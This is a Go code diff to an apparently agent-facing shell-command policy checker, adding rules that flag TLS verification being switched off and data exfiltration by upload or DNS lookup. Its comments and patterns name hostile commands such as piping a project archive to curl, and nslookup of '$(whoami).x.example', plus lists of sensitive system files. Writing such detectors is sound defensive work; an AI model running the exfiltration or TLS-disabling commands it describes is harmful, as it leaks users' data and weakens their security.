@@ -1,6 +1,8 @@
 package policy
 
 import (
+	"github.com/guarded-sh/guarded-sh/lexer"
+
 	"path"
 	"strings"
 )
@@ -85,6 +87,12 @@ func isDevNet(s string) bool {
 
 // netCommand applies the net rules to a posix command.
 func netCommand(ctx *Context, c *Command) []Finding {
+	if f := tlsOffEnv(c); f != nil {
+		return []Finding{*f}
+	}
+	if f := exfilOf(ctx, c); f != nil {
+		return []Finding{*f}
+	}
 	if !c.Grammar.IsPosix() {
 		return nil
 	}
@@ -504,4 +512,281 @@ func refsAny(text string, names []string) bool {
 		}
 	}
 	return false
+}
+
+// tlsOffVar matches NAME=VALUE of an environment variable that switches
+// TLS verification off for the programs that read it (Node, git,
+// Python's urllib and requests, npm, yarn, pip, uv, Go, Bundler, conda).
+var tlsOffVar = &lazyRegexp{expr: `^(NODE_TLS_REJECT_UNAUTHORIZED=0|GIT_SSL_NO_VERIFY=.+|PYTHONHTTPSVERIFY=0|(REQUESTS|CURL)_CA_BUNDLE=|(?i:npm_config_strict_ssl)=(false|0)|YARN_ENABLE_STRICT_SSL=(false|0)|YARN_STRICT_SSL=(false|0)|PIP_TRUSTED_HOST=.+|UV_INSECURE_HOST=.+|GOINSECURE=.+|GOFLAGS=.*-insecure.*|BUNDLE_SSL_VERIFY_MODE=0|CONDA_SSL_VERIFY=(false|no|0))$`}
+
+// tlsOffEnv refuses a variable of tlsOffVar set for the rest of the
+// session or for good: export, declare -x, setenv, cmd's set and setx,
+// PowerShell's $env: and [Environment]::SetEnvironmentVariable. Written
+// into a shell's startup file it is judged there as the code it is
+// (writes.go). Given to one command (VAR=0 npm ci) it is that command's
+// business, as git -c http.sslVerify=false is.
+func tlsOffEnv(c *Command) *Finding {
+	for _, s := range envSettings(c) {
+		if tlsOffVar.get().MatchString(s) {
+			name, _, _ := strings.Cut(s, "=")
+			f := finding("net.tls-off", c, "setting "+name+" for the session or for good switches TLS verification off for every later download",
+				"keep verification on; to trust a private certificate authority, name it (`NODE_EXTRA_CA_CERTS=./ca.pem`, `git config http.sslCAInfo ./ca.pem`)")
+			return &f
+		}
+	}
+	return nil
+}
+
+// envSettings returns NAME=VALUE of each environment variable c sets for
+// the rest of the session or for good (not for one command: VAR=v cmd).
+func envSettings(c *Command) []string {
+	var out []string
+	switch c.Name {
+	case "export", "setenv", "set", "setx", "declare", "typeset":
+		if (c.Name == "declare" || c.Name == "typeset") && !parseArgs(&spec{}, c.Args).has("-x") ||
+			(c.Name == "set" || c.Name == "setx") && !isWin(c.Grammar) || c.Name == "setenv" && !c.Grammar.IsPosix() {
+			return nil
+		}
+		var ops []Word
+		for _, a := range c.Args {
+			if !strings.HasPrefix(a.Value, "-") && !strings.HasPrefix(a.Value, "/") {
+				ops = append(ops, a)
+			}
+		}
+		if c.Name == "setenv" || c.Name == "setx" {
+			// setenv NAME VALUE, setx NAME VALUE
+			if len(ops) > 0 && !strings.Contains(ops[0].Value, "=") {
+				v := ""
+				if len(ops) > 1 {
+					v = ops[1].Value
+				}
+				return []string{ops[0].Value + "=" + v}
+			}
+		}
+		for _, a := range ops {
+			out = append(out, a.Value)
+		}
+	case "":
+		if c.Grammar == lexer.PowerShell {
+			out = append(out, c.Assigns...) // $env:NAME = 'v'
+			if name, ok := psSetEnvName(c); ok {
+				for _, w := range append([]Word{c.Word0}, c.Args...) {
+					for _, sc := range w.Subst {
+						if sc.Word0.Value == name && len(sc.Args) > 0 {
+							out = append(out, name+"="+sc.Args[0].Value)
+						}
+					}
+				}
+			}
+		}
+	}
+	return out
+}
+
+// net.exfil: data that is not the agent's to send, sent off the machine.
+// A file goes where an upload option names it (curl -T F, -F f=@F, -d @F,
+// wget --post-file F, Invoke-WebRequest -InFile F), or the text of
+// a substitution reading it (-d "$(cat F)"), or an archive's (tar czf -
+// . | curl -T -). Sent so are a leak: the system's account, sudo and
+// authentication log files, a database file, and an archive of the whole
+// project or home written in the same input (uploads over HTTP; a copy
+// to one's own server with scp or rsync is deploying). Credential files
+// are the cred rules'. So is local data spelled into a name looked up
+// (nslookup "$(whoami).x.example": DNS carries it out).
+
+// sendsFiles are the HTTP clients whose upload options readOperands reads.
+var sendsFiles = set{"curl", "wget", "http", "https", "xh", "xhs", "curlie", "wget2"}
+
+// psUploaders are PowerShell's HTTP cmdlets, whose -InFile is sent.
+var psUploaders = set{"invoke-webrequest", "iwr", "invoke-restmethod", "irm"}
+
+// lookups resolve or reach the name they are given.
+var lookups = set{"nslookup", "dig", "host", "drill", "ping", "ping6", "traceroute", "tracepath", "resolve-dnsname", "test-connection", "getent"}
+
+// localData are commands whose output is this machine's data: who runs
+// it, files, the environment.
+var localData = set{"whoami", "id", "cat", "head", "tail", "base64", "base32", "xxd", "od", "env", "printenv", "uname", "ls", "get-content", "gc"}
+
+// substLabel matches a substitution's output followed, in the same word,
+// by a domain: $(whoami).x.example, `id -u`-a.example.
+var substLabel = &lazyRegexp{expr: "(\\$\\([^)]*\\)|`[^`]*`)[^\\s'\"]*\\.[A-Za-z]"}
+
+// exfilSystemFile matches the system's account databases, sudo rules and
+// authentication logs.
+var exfilSystemFile = &lazyRegexp{expr: `^/etc/(passwd|shadow|gshadow|group|master\.passwd|sudoers|sudoers\.d/.*|security/opasswd|krb5\.keytab)$|^/var/log/(auth\.log|secure|wtmp|btmp|lastlog)(\.\d+)?$`}
+
+// exfilDatabase matches a database file or dump by its extension.
+var exfilDatabase = &lazyRegexp{expr: `(?i)\.(sqlite3?|db|sql|dump|mdb|accdb|bson)(\.(gz|bz2|xz|zst|zip))?$`}
+
+// exfilOf returns the finding for c sending data that is not the agent's
+// to send, or nil.
+func exfilOf(ctx *Context, c *Command) *Finding {
+	name := strings.ToLower(strings.TrimSuffix(c.Name, ".exe"))
+	if lookups.has(name) {
+		for _, a := range c.Args {
+			for _, sc := range a.Subst {
+				if localData.has(strings.ToLower(sc.Name)) && substLabel.get().MatchString(c.Text) {
+					f := finding("net.exfil", c, "it spells the output of "+sc.Name+" into a name it looks up: the query carries this machine's data to whoever serves that domain",
+						"look up fixed names (`nslookup example.com`); to report the host name, print it: `hostname`")
+					return &f
+				}
+			}
+		}
+		return nil
+	}
+	var sent []string
+	switch {
+	case sendsFiles.has(name):
+		for _, p := range readOperands(c) {
+			if p == "-" {
+				for _, f := range c.Feeds {
+					if src, ok := archivesProject(ctx, f); ok {
+						sent = append(sent, src)
+					}
+				}
+				continue
+			}
+			sent = append(sent, p)
+		}
+		// -d "$(cat F)", --data="$(base64 F)": F's text is the body.
+		for i, a := range c.Args {
+			body := i > 0 && isDataOpt(c.Args[i-1].Value) || strings.HasPrefix(a.Value, "--data") || strings.HasPrefix(a.Value, "-d")
+			for _, sc := range a.Subst {
+				if body && readers.has(sc.Name) {
+					sent = append(sent, readOperands(sc)...)
+				}
+			}
+		}
+	case psUploaders.has(name):
+		p := parseArgs(&spec{ps: true, long: []string{"-Uri", "-Method", "-InFile", "-OutFile", "-Body", "-Headers", "-ContentType", "-Form", "-Credential", "-UserAgent", "-Proxy", "-TimeoutSec"}}, c.Args)
+		sent = p.values("-InFile")
+	default:
+		return nil
+	}
+	for _, p := range sent {
+		abs := homeWord(p, ctx.Env)
+		if !path.IsAbs(abs) && ctx.Env.Cwd != "" {
+			abs = path.Join(ctx.Env.Cwd, abs)
+		}
+		what := ""
+		switch {
+		case exfilSystemFile.get().MatchString(path.Clean(abs)):
+			what = p + ", the system's accounts or authentication records,"
+		case exfilDatabase.get().MatchString(p):
+			what = p + ", a database,"
+		default:
+			if src, ok := archivedProject(ctx, c, p); ok {
+				what = p + ", an archive of " + src + ","
+			} else if strings.HasPrefix(p, "archive of ") {
+				what = "an archive of " + strings.TrimPrefix(p, "archive of ") + ","
+			}
+		}
+		if what != "" {
+			f := finding("net.exfil", c, "it uploads "+what+" to another machine, where it is out of anyone's control",
+				"send only what the task needs, and only where the user asked; leave sharing data to a human")
+			return &f
+		}
+	}
+	return nil
+}
+
+// isDataOpt reports whether v is an HTTP client's option whose value is
+// the body it sends.
+func isDataOpt(v string) bool {
+	return strings.HasPrefix(v, "--data") || v == "--json" || v == "-d" || v == "--body" || v == "--post-data"
+}
+
+// archivedProject reports whether the file p that c sends was written,
+// earlier in the input, by an archiver of the whole project or home.
+func archivedProject(ctx *Context, c *Command, p string) (string, bool) {
+	for _, x := range ctx.Input.Commands {
+		if x == c {
+			break
+		}
+		if src, dst, ok := archiveOf(ctx, x); ok && dst == p {
+			return src, true
+		}
+	}
+	return "", false
+}
+
+// archivesProject reports whether c writes an archive of the whole
+// project or home to its standard output (tar czf - ., zip -r - .).
+func archivesProject(ctx *Context, c *Command) (string, bool) {
+	src, dst, ok := archiveOf(ctx, c)
+	return "archive of " + src, ok && dst == "-"
+}
+
+// archiveOf returns the directory an archiver packs whole (the working
+// directory, the project, the home directory) and the archive it writes.
+func archiveOf(ctx *Context, c *Command) (src, dst string, ok bool) {
+	var sources []string
+	switch strings.ToLower(c.Name) {
+	case "tar", "bsdtar", "gtar":
+		p := parseArgs(&tarSpec, c.Args)
+		old := len(c.Args) > 0 && !strings.HasPrefix(c.Args[0].Value, "-") && strings.ContainsRune(c.Args[0].Value, 'c')
+		if !old && !p.has("-c", "--create") {
+			return "", "", false
+		}
+		if v := p.values("-f", "--file"); len(v) > 0 {
+			dst = v[len(v)-1]
+		}
+		ops := p.operands
+		if old && len(ops) > 0 {
+			ops = ops[1:] // czf's letters
+			if strings.ContainsRune(c.Args[0].Value, 'f') && len(ops) > 0 {
+				dst, ops = ops[0].Value, ops[1:]
+			}
+		}
+		for _, o := range ops {
+			sources = append(sources, o.Value)
+		}
+	case "zip":
+		p := parseArgs(&spec{value: "bnPtTx"}, c.Args)
+		if len(p.operands) < 2 {
+			return "", "", false
+		}
+		dst = p.operands[0].Value
+		for _, o := range p.operands[1:] {
+			sources = append(sources, o.Value)
+		}
+	case "7z", "7za", "7zz":
+		if len(c.Args) < 3 || c.Args[0].Value != "a" {
+			return "", "", false
+		}
+		dst = c.Args[1].Value
+		for _, o := range c.Args[2:] {
+			sources = append(sources, o.Value)
+		}
+	case "compress-archive":
+		p := parseArgs(&spec{ps: true, long: []string{"-Path", "-LiteralPath", "-DestinationPath", "-CompressionLevel"}}, c.Args)
+		sources = p.values("-Path", "-LiteralPath")
+		dsts := p.values("-DestinationPath")
+		for _, o := range p.operands {
+			if len(sources) == 0 {
+				sources = append(sources, o.Value)
+			} else if len(dsts) == 0 {
+				dsts = append(dsts, o.Value)
+			}
+		}
+		if len(dsts) > 0 {
+			dst = dsts[0]
+		}
+	default:
+		return "", "", false
+	}
+	for _, s := range sources {
+		abs := homeWord(s, ctx.Env)
+		if !path.IsAbs(abs) && ctx.Env.Cwd != "" {
+			abs = path.Join(ctx.Env.Cwd, abs)
+		}
+		abs = path.Clean(strings.TrimSuffix(strings.TrimSuffix(abs, "*"), "/"))
+		switch {
+		case abs == path.Clean(ctx.Env.Cwd) && ctx.Env.Cwd != "":
+			return "the whole working directory", dst, dst != ""
+		case ctx.Env.Home != "" && abs == path.Clean(ctx.Env.Home):
+			return "the home directory", dst, dst != ""
+		}
+	}
+	return "", "", false
 }
